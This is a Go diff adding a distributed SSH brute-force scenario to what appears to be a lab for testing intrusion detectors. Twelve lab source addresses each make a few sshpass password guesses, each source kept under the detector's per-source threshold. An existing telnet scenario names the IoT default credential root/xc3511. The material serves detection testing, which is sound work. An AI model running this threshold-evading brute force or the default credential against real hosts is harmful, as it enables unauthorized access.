@@ -88,6 +88,18 @@ func init() {
 			},
 		},
 		&Scenario{
+			Name: "ssh-botnet", Difficulty: Hard,
+			Description: fmt.Sprintf("Distributed SSH brute force: %d addresses outside (%s–%s, a botnet's) each try %d passwords on the server's sshd, "+
+				"one connection per try (sshpass), %d at a time: %d refused logins, none of the sources past the per-source threshold.",
+				botnetSources, botnetAddrs()[0], botnetAddrs()[botnetSources-1], botnetTries, botnetTasks, botnetSources*botnetTries),
+			Tools: []string{"sshpass", "ssh"}, Classes: []string{"bruteforce.ssh"}, MITRE: []string{"T1110.001"},
+			AttackerAddrs: addrStrings(botnetAddrs()), Victims: v4(hostServer), Duration: 40 * time.Second,
+			Notes: fmt.Sprintf("the sources are secondary addresses of ext (%s–%s), outside the internal networks; each makes %d refused logins, "+
+				"fewer than the detector's 10: only the sources together are an attack", botnetAddrs()[0], botnetAddrs()[botnetSources-1], botnetTries),
+			prepare: addBotnetAddrs,
+			attack:  botnetAttack,
+		},
+		&Scenario{
 			Name: "bruteforce-telnet", Difficulty: Easy,
 			Description: "hydra guesses telnet passwords of the IoT hub's telnet service and finds the factory default root/xc3511.",
 			Tools:       []string{"hydra"}, Classes: []string{"bruteforce.telnet", "iot.default_creds"}, MITRE: []string{"T1110.001", "T1078.001"},
@@ -154,4 +166,55 @@ func addrStrings(addrs []netip.Addr) []string {
 		out[i] = a.String()
 	}
 	return out
+}
+
+// The SSH botnet: botnetSources addresses of ext (botnetFirst on), each
+// botnetTries guesses, botnetTasks at once.
+const (
+	botnetSources = 12
+	botnetFirst   = 100
+	botnetTries   = 5
+	botnetTasks   = 4
+)
+
+// botnetAddrs are the botnet's source addresses.
+func botnetAddrs() []netip.Addr {
+	out := make([]netip.Addr, botnetSources)
+	for i := range out {
+		out[i] = hostAddr(outsideNet4, byte(botnetFirst+i))
+	}
+	return out
+}
+
+// addBotnetAddrs gives ext's eth0 the botnet's addresses.
+func addBotnetAddrs(ctx context.Context) error {
+	var cmds []string
+	for _, a := range botnetAddrs() {
+		cmds = append(cmds, fmt.Sprintf("addr add %s/%d dev eth0", a, outsideNet4.Bits()))
+	}
+	if err := ipBatch(ctx, hostExt.NS(), cmds); err != nil {
+		return fmt.Errorf("lab: botnet addresses of ext: %w", err)
+	}
+	return nil
+}
+
+// botnetAttack has every source try botnetTries passwords of the list on
+// srv, each on a connection of its own bound to that source (ssh -b):
+// sshpass gives up when asked for the password again (exit status 5), a
+// bot's one guess per connection.
+func botnetAttack(a *attackRun) error {
+	var tries []func() error
+	for i, src := range botnetAddrs() {
+		for j := range botnetTries {
+			pw := brutePasswords[(i*botnetTries+j)%len(brutePasswords)]
+			user := bruteUsers[(i+j)%len(bruteUsers)]
+			tries = append(tries, func() error {
+				return a.run(hostExt, "sshpass", "-p", pw, "ssh", "-b", src.String(), "-o", "StrictHostKeyChecking=no",
+					"-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no",
+					"-o", "ConnectTimeout=5", "-o", "LogLevel=ERROR",
+					user+"@"+hostServer.IPv4().String(), "true")
+			})
+		}
+	}
+	return a.phase("guesses", func() error { return a.parallel(botnetTasks, tries) })
 }
